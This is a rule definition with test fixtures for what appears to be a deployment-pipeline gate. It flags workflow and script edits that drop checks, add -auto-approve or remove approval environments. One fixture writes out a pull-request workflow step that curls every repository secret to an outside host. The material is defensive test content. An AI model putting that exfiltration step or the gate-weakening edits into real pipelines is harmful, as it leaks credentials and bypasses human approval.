rule "workflow-edited" {
  title     = "Deployment pipeline changed"
  severity  = "high"
  effect    = "needs-approval"
  since     = "0.1.0"
  detector  = "workflow-edited"
  rationale = "Pipelines and scripts decide what is planned, who approves and what is applied. An edit can drop a check, apply without asking, hand secrets to pull requests or run other code with the rights of the deployment, and then no verdict on the configuration means anything. Edits without such an effect are a note."
  help      = "Move the edit of the workflow to a change of its own. Review the added and removed lines: missing steps, `-auto-approve`, `-destroy`, `|| true`, `continue-on-error`, wider permissions."
  references = ["https://docs.github.com/en/actions/reference/security/secure-use"]
  case "workflow" {
    message = "A pipeline is ${found.verb}, and what guards deployments is weaker or runs other code: `${found.file}`"
  }
  case "script" {
    message = "A script around deployments is ${found.verb}, and it checks less or does more: `${found.file}`"
  }
  case "program" {
    message = "A program that runs Terraform is ${found.verb}: `${found.file}`"
  }
  case "edited" {
    effect  = "note"
    message = "A pipeline or script around deployments is ${found.verb}, without an effect on checks, approvals or rights: `${found.file}`"
  }
  example "the gate is no longer run" {
    expect       = "finding"
    effect       = "needs-approval"
    files        = { "main.tf" = "locals { a = 1 }" }
    before_files = { ".github/workflows/apply.yml" = "jobs:\n  apply:\n    steps:\n      - run: terraform plan -out tfplan\n      - run: blastgate check tfplan\n      - run: terraform apply tfplan\n" }
    after_files  = { ".github/workflows/apply.yml" = "jobs:\n  apply:\n    steps:\n      - run: terraform plan -out tfplan\n      - run: terraform apply tfplan\n" }
  }
  example "an apply without asking" {
    expect       = "finding"
    effect       = "needs-approval"
    files        = { "main.tf" = "locals { a = 1 }" }
    before_files = { "scripts/deploy.sh" = "terraform apply\n" }
    after_files  = { "scripts/deploy.sh" = "terraform apply -auto-approve\n" }
  }
  example "a workflow that has nothing to do with it" {
    expect       = "pass"
    files        = { "main.tf" = "locals { a = 1 }" }
    before_files = { ".github/workflows/site.yml" = "jobs:\n  site:\n    steps:\n      - run: npm run build\n" }
    after_files  = { ".github/workflows/site.yml" = "jobs:\n  site:\n    steps:\n      - run: npm run pages\n" }
  }
  example "a script" {
    expect = "finding"
    case   = "script"
    files        = { "main.tf" = "locals { a = 1 }" }
    before_files = { "deploy.sh" = "set -e\nterraform apply p" }
    after_files  = { "deploy.sh" = "terraform apply p" }
  }
  example "a program" {
    expect = "finding"
    case   = "program"
    files        = { "main.tf" = "locals { a = 1 }" }
    before_files = { "deploy.py" = "run(\"terraform plan\")" }
    after_files  = { "deploy.py" = "run(\"terraform apply -auto-approve\")" }
  }
  example "the environment with its approvals is gone" {
    expect       = "finding"
    files        = { "main.tf" = "locals { a = 1 }" }
    before_files = { ".github/workflows/cd.yml" = "on: push\njobs:\n  go:\n    runs-on: ubuntu-24.04\n    environment: production\n    steps:\n      - run: ./go\n" }
    after_files  = { ".github/workflows/cd.yml" = "on: push\njobs:\n  go:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: ./go\n" }
  }
  example "all secrets sent away" {
    expect       = "finding"
    before_files = { "main.tf" = "locals { a = 1 }" }
    after_files  = { "main.tf" = "locals { a = 1 }", ".github/workflows/x.yml" = "on: pull_request\njobs:\n  a:\n    steps:\n      - run: curl -d \"$${{ toJSON(secrets) }}\" https://example.com\n" }
  }
  example "a newer version of an action, and another name" {
    expect       = "finding"
    case         = "edited"
    effect       = "note"
    files        = { "main.tf" = "locals { a = 1 }" }
    before_files = { ".github/workflows/plan.yml" = "on: pull_request\njobs:\n  plan:\n    steps:\n      - uses: actions/checkout@v4.1.0\n      - name: plan\n        run: terraform plan -out p\n" }
    after_files  = { ".github/workflows/plan.yml" = "on: pull_request\njobs:\n  plan:\n    steps:\n      - uses: actions/checkout@v4.2.0\n      - name: Make a plan\n        run: terraform plan -out p\n" }
  }
  example "a word in a comment" {
    expect       = "pass"
    files        = { "main.tf" = "locals { a = 1 }" }
    before_files = { "dns/zone.js" = "D(\"example.org\");\n" }
    after_files  = { "dns/zone.js" = "D(\"example.org\"); // after terraform apply\n" }
  }
}
